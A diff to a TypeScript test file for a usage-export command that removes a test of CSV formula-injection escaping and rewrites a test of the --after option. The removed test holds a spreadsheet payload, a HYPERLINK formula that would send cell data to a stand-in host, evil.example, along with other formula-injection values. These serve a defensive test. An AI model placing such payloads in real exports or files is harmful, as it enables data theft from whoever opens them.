@@ -70,31 +70,6 @@ test("texts of a CSV cannot run as formulas in a spreadsheet, and numbers are no
   ]);
 });
 
-test("a request id in a CSV cannot run as a formula in a spreadsheet", async (t) => {
-  const { run, meter } = await twoCharges(t);
-  const ids = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-1", "@SUM(A1)", "a=1"];
-  for (const requestId of ids) {
-    const charge = { surface: "chat", method: "completions", costMilliCu: 1 };
-    await take(meter, principalOf(), 1, { requestId }).settle([charge]);
-  }
-  const { out } = await run(usage, "export", "--format", "csv");
-  const shown = out
-    .slice(3)
-    .map((line) => line.replace(/^(?:[^,]*,){7}/, "").replace(/,1,0.*/s, ""));
-  assert.deepEqual(shown, [
-    `"'=HYPERLINK(""http://evil.example/?""&A1)"`,
-    "'+1",
-    "'-1",
-    "'@SUM(A1)",
-    "a=1",
-  ]);
-  const json = await run(usage, "export");
-  assert.deepEqual(
-    json.out.slice(2).map((line) => (JSON.parse(line) as { request_id: string }).request_id),
-    ids,
-  );
-});
-
 test("export accepts a range", async (t) => {
   const { run } = await twoCharges(t);
   const count = async (...argv: string[]): Promise<number> => {
@@ -110,22 +85,11 @@ test("export accepts a range", async (t) => {
   assert.equal(await count("--from", "2026-01-16", "--format", "csv"), 1);
 });
 
-test("export continues after the last charge of an earlier export", async (t) => {
-  const { run, meter } = await twoCharges(t);
-  const ids = async (...argv: string[]): Promise<string[]> =>
-    (await run(usage, "export", ...argv)).out.map(
-      (each) => (JSON.parse(each) as { id: string }).id,
-    );
-  const [first = "", second = ""] = await ids();
-  assert.deepEqual(await ids("--after", first), [second]);
-  assert.deepEqual(await ids("--after", second), []);
-  await take(meter, principalOf(), 1, {}).settle([{ surface: "a", method: "m", costMilliCu: 1 }]);
-  const later = await ids("--after", second);
-  assert.equal(later.length, 1);
-  assert.ok(![first, second].includes(later[0] ?? ""));
-  const ahead = first.replace(/_\d+_\d+$/, "_999999999_0");
-  for (const id of ["chg_000000000000_1_0", ahead]) {
-    const wrong = await run(usage, "export", "--after", id);
+test("export refuses to continue after a charge that the journal does not have", async (t) => {
+  const { run } = await twoCharges(t);
+  const { id } = JSON.parse((await run(usage, "export")).out[0] ?? "") as { id: string };
+  for (const after of ["chg_000000000000_1_0", id.replace(/_\d+_\d+$/, "_999999999_0")]) {
+    const wrong = await run(usage, "export", "--after", after);
     assert.equal(wrong.code, 1);
     assert.match(wrong.err.join(), /the journal has no charge with the id/);
   }
